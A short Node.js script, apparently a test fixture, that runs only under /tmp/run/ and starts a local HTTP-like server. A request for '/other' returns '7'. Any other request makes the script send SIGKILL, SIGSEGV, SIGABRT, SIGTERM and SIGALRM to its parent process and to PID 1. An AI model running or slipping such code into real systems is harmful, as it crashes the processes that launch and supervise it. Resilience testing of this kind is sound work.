import { createServer } from "node:net";

if (!process.cwd().startsWith("/tmp/run/")) process.exit(0); // only where the room bears it

createServer((socket) => {
  socket.on("error", () => {});
  socket.once("data", (request) => {
    if (request.includes("/other")) {
      socket.end("HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\n7");
    } else {
      for (const pid of [process.ppid, 1]) {
        for (const signal of ["SIGKILL", "SIGSEGV", "SIGABRT", "SIGTERM", "SIGALRM"]) {
          try {
            process.kill(pid, signal);
          } catch {}
        }
      }
      socket.end();
    }
  });
}).listen(Number(process.env.PORT), "127.0.0.1");
